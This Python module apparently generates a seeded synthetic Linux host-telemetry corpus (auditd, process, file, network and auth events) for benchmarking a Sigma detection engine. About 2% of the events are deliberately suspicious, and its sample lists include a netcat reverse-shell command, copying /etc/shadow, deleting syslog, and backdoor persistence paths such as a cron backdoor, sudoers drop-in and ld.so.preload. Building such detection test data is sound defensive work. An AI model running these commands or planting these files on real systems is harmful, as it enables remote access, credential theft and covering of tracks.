"""A mixed host corpus for the engine benchmark: every logsource SigmaHQ's Linux rules route on.

Proportions (of events) are those of a busy web/app server's host telemetry, where auditd is
the most verbose source (one event per record, about five records per exec) and process
executions the next:

| logsource | share | built from |
|---|---|---|
| linux/auditd | ~30 % | real audit.log lines (SYSCALL, EXECVE, CWD, PATH, PROCTITLE) |
| linux/process_creation | 30 % | exec events (60 % with a unique argument) |
| linux/file_event | 12 % | FIM / file writes |
| linux/network_connection | 10 % | outbound and inbound connections of local processes |
| linux/sshd, sudo, cron, syslog | 18 % | real syslog lines through the auth parser |

Audit lines go through ``audit_parse``, syslog lines through ``auth_parse``, as in the agent.

The same seed gives the same corpus; about 2 % of each source is suspicious (what rules exist
for), the rest routine.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

from agent.collectors.parsers.audit import group_events, parse_record
from agent.collectors.parsers.auth import build_auth_event
from agent.events import Event, LogSource

T0 = 1_767_225_600.0
PROC = LogSource("linux", "process_creation")
FILE = LogSource("linux", "file_event")
NET = LogSource("linux", "network_connection")

_EXES = [
    ("/usr/bin/ls", "ls -la /var/log"), ("/usr/bin/git", "git status --short"),
    ("/usr/bin/python3", "python3 manage.py migrate"), ("/usr/sbin/nginx", "nginx -s reload"),
    ("/usr/bin/cat", "cat /etc/os-release"), ("/usr/bin/grep", "grep -r TODO src"),
    ("/usr/bin/bash", "bash -c 'make test'"), ("/usr/bin/ssh", "ssh deploy@198.18.0.10 uptime"),
    ("/usr/bin/docker", "docker ps -a"), ("/usr/bin/tar", "tar czf /var/backups/w.tgz /var/www"),
    ("/usr/bin/find", "find /srv -mtime +7 -delete"), ("/usr/bin/id", "id -u"),
    ("/usr/bin/curl", "curl -fsS http://127.0.0.1:9787/metrics"), ("/usr/bin/awk", "awk -F:"),
]
_BAD_EXES = [
    ("/usr/bin/nc", "nc 198.18.9.9 4444 -e /bin/bash"), ("/usr/bin/cp", "cp /etc/shadow /tmp/s"),
    ("/usr/bin/rm", "rm -f /var/log/syslog"), ("/usr/bin/base64", "base64 -d /tmp/x.b64"),
    ("/usr/bin/python3.11", "python3 -m http.server 8000"), ("/sbin/telinit", "telinit 6"),
]
_FILES = ["/var/www/html/index.php", "/var/lib/app/cache/x.json", "/tmp/session-{n}",
          "/home/deploy/.bash_history", "/var/log/nginx/access.log", "/srv/app/releases/{n}/app.py"]
_BAD_FILES = ["/etc/cron.d/backdoor", "/etc/sudoers.d/x", "/root/.ssh/authorized_keys",
              "/etc/ld.so.preload", "/usr/lib/systemd/system/evil.service"]
_SSHD = [
    "Accepted publickey for deploy from 198.18.0.{a} port {p} ssh2: ED25519 SHA256:abc",
    "Failed password for invalid user admin{a} from 198.18.3.{a} port {p} ssh2",
    "Connection closed by 198.18.1.{a} port {p} [preauth]",
    "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
    "Disconnected from user deploy 198.18.0.{a} port {p}",
]
_SUDO = [
    "deploy : TTY=pts/0 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app",
    "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get update",
    "bob : TTY=pts/2 ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/bash",
    "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)",
]
_CRON = [
    "(root) CMD (/usr/lib/php/sessionclean)", "(deploy) CMD (/srv/app/bin/job --run {n})",
    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
]
_SYSLOG = [
    "Started Daily apt download activities.", "app.service: Consumed {n}ms CPU time.",
    "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.18.4.{a} DST=198.18.0.1 PROTO=TCP DPT=23",
    "Reached target Timers.",
]


def _audit_group(rnd: random.Random, serial: int, ts: float) -> list[Event]:
    exe, cmd = rnd.choice(_BAD_EXES) if rnd.random() < 0.02 else rnd.choice(_EXES)
    args = cmd.split()
    stamp = f"audit({ts:.3f}:{serial})"
    a = " ".join(f'a{i}="{arg}"' for i, arg in enumerate(args))
    lines = [
        f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 "
        f"a2=55d3 a3=0 items=2 ppid={rnd.randrange(2, 30000)} pid={rnd.randrange(2, 30000)} "
        f"auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
        f'comm="{exe.rsplit("/", 1)[1]}" exe="{exe}" key="exec"',
        f"type=EXECVE msg={stamp}: argc={len(args)} {a}",
        f'type=CWD msg={stamp}: cwd="/srv/app"',
        f'type=PATH msg={stamp}: item=0 name="{exe}" inode=1234 dev=08:01 mode=0100755 '
        "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        f"type=PROCTITLE msg={stamp}: proctitle={cmd.encode().hex().upper()}",
    ]
    records = [r for r in (parse_record(line) for line in lines) if r is not None]
    return group_events(records)


def _auth(rnd: random.Random, ts: float, n: int) -> Event:
    program, lines = rnd.choices(
        [("sshd", _SSHD), ("sudo", _SUDO), ("CRON", _CRON), ("systemd", _SYSLOG)],
        weights=[8, 3, 5, 2])[0]
    message = rnd.choice(lines).format(a=rnd.randrange(1, 250), p=rnd.randrange(1024, 65535),
                                       n=n)
    line = f"Jan  1 00:00:00 web1 {program}[{rnd.randrange(2, 30000)}]: {message}"
    return build_auth_event(ts, "web1", program, 1234, message, line)


def _process(rnd: random.Random, ts: float, n: int) -> Event:
    exe, cmd = rnd.choice(_BAD_EXES) if rnd.random() < 0.02 else rnd.choice(_EXES)
    if rnd.random() < 0.6:
        cmd = f"{cmd} /tmp/job-{n:x}"
    return Event(ts, PROC, {
        "process.executable": exe, "process.command_line": cmd,
        "process.name": exe.rsplit("/", 1)[1], "process.pid": 1000 + n % 30000,
        "process.parent.executable": rnd.choice(_EXES)[0],
        "process.args": cmd.split(), "user.name": rnd.choice(["root", "www-data", "deploy"]),
    })


def _file(rnd: random.Random, ts: float, n: int) -> Event:
    path = (rnd.choice(_BAD_FILES) if rnd.random() < 0.02 else rnd.choice(_FILES)).format(n=n)
    return Event(ts, FILE, {
        "file.path": path, "file.name": path.rsplit("/", 1)[1],
        "process.executable": rnd.choice(_EXES)[0], "event.action": "modified",
        "user.name": "root",
    })


def _net(rnd: random.Random, ts: float, n: int) -> Event:
    bad = rnd.random() < 0.02
    return Event(ts, NET, {
        "destination.ip": f"198.18.{rnd.randrange(256)}.{rnd.randrange(1, 255)}",
        "destination.port": rnd.choice((4444, 1337, 31337)) if bad else rnd.choice(
            (443, 80, 5432, 6379, 53)),
        "source.ip": "198.18.0.1", "source.port": rnd.randrange(32768, 61000),
        "network.transport": "tcp", "network.direction": "outbound",
        "network.initiated": True,
        "process.executable": rnd.choice(_BAD_EXES if bad else _EXES)[0], "user.name": "deploy",
    })


def mixed_events(n: int, seed: int = 7) -> list[Event]:
    """``n`` events of the mix above, in time order (1 ms apart)."""
    rnd = random.Random(seed)
    out: list[Event] = []
    serial = 1000
    kinds = ["audit", "process", "file", "net", "auth"]
    weights = [6, 30, 12, 10, 18]  # share / events per draw (an audited exec is ~5 records)
    while len(out) < n:
        ts = T0 + len(out) * 1e-3
        kind = rnd.choices(kinds, weights)[0]
        if kind == "audit":
            serial += 1
            out.extend(_audit_group(rnd, serial, ts))
        elif kind == "process":
            out.append(_process(rnd, ts, len(out)))
        elif kind == "file":
            out.append(_file(rnd, ts, len(out)))
        elif kind == "net":
            out.append(_net(rnd, ts, len(out)))
        else:
            out.append(_auth(rnd, ts, len(out)))
    return out[:n]


def shares(events: list[Event]) -> dict[str, float]:
    """The measured share of each logsource (for the benchmark's note)."""
    counts: dict[str, int] = {}
    for e in events:
        key = "/".join(p for p in e.logsource if p)
        counts[key] = counts.get(key, 0) + 1
    return {k: round(v / len(events), 3) for k, v in sorted(counts.items())}


def chunks(events: list[Event], size: int = 100_000) -> Iterator[list[Event]]:
    for i in range(0, len(events), size):
        yield events[i:i + size]
